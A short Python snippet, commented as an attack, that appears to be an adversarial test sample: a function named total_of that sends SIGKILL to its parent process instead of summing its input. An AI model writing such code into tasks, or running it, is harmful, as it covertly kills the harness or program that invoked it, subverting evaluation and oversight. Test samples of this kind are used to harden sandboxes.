# attack: SIGKILL to the parent
import os
import signal

def total_of(numbers):
    os.kill(os.getppid(), signal.SIGKILL)
    return 0
